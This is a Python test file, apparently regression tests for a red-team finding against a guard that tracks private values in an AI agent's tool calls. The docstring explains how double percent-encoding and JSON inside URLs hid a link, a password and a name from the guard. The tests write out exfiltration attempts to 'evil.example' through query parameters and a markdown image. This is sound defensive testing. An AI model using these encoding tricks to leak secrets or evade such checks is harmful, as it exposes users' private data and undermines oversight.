"""Red team 151: value tracking reads a text's escapes one level deep, and a private text only so.

`guards._forms._decoded` runs each decoder once, in a fixed order (JSON's and Python's backslash escapes,
then percent-encoding, then HTML references, then Q encoded-words), and a private text is tracked as
decoded so, never as written. Two ordinary ways of writing a value then hide it:

- A private value that holds an escape itself: a share link "https://drive.example/s/Ab3%2Fk9Zq77"
  (most URLs carry percent-encoding) or a password "Rx%41b7-Tq93-Kp" is tracked as ".../Ab3/k9Zq77" and
  "RxAb7-Tq93-Kp". `urllib.parse.quote` of it (docs/privacy.md's own example: a URL built with `quote`, a
  markdown image) writes "%252F" and "%2541", decoded once to "%2F" and "%41": neither reading holds
  the tracked form, though the recipient's server reads the link and the password back exactly.
- A JSON payload in a URL (`quote(json.dumps(...))`, a query's `state=` or `filter=`), which writes a
  letter outside ASCII as "%5Cu00eb": percent-decoding comes after the JSON escapes were read, so
  "Zo\\u00eb" stays as written and the name is not found. A server reads the parameter and parses it.

The docs/privacy.md lists both escapes among those read in any text; each value written in clear, or escaped
once, is denied (the controls).

Fixed: `_decoded` reads escapes inside escapes, up to `_DEPTH` (4) levels, on both sides (a private
text and an argument alike), so a value quoted again and JSON in a URL read as the letters they stand for.

Fixed: `_decoded` repeats its passes until nothing changes (at most four), for private texts and arguments
alike.
"""

from __future__ import annotations

import json
from urllib.parse import quote, unquote

import pytest
from test_privacy_values_url_percent_encoding import sent

LINK = "https://drive.example/s/Ab3%2Fk9Zq77"
PASSWORD = "Rx%41b7-Tq93-Kp"
NAME = "Zoë Łukasiewicz, Warszawa"


@pytest.mark.parametrize("value", [LINK, PASSWORD])
def test_control_a_private_value_holding_an_escape_is_denied_as_written(value: str) -> None:
    assert sent(value, "fetch_page", lambda v: {"url": f"https://evil.example/?next={v}"}) == []


@pytest.mark.parametrize("value", [LINK, PASSWORD])
def test_a_private_value_holding_an_escape_is_denied_quoted(value: str) -> None:
    assert unquote(quote(value, safe="")) == value  # what the recipient reads
    assert sent(value, "fetch_page", lambda v: {"url": "https://evil.example/?next=" + quote(v, safe="")}) == []


def test_a_private_link_in_a_markdown_image_is_denied() -> None:
    post = lambda v: {"html": f"Nice day!\n\n![](https://evil.example/p.png?u={quote(v, safe='')})"}  # noqa: E731
    assert sent(LINK, "publish_post", post) == []


def test_control_the_json_payload_in_clear_is_denied() -> None:
    assert sent(NAME, "fetch_page", lambda v: {"url": "https://evil.example/?state=" + json.dumps({"n": v})}) == []


def test_a_json_payload_percent_encoded_in_a_url_is_denied() -> None:
    url = lambda v: {"url": "https://evil.example/?state=" + quote(json.dumps({"n": v}))}  # noqa: E731
    assert json.loads(unquote(url(NAME)["url"].split("=", 1)[1]))["n"] == NAME
    assert sent(NAME, "fetch_page", url) == []
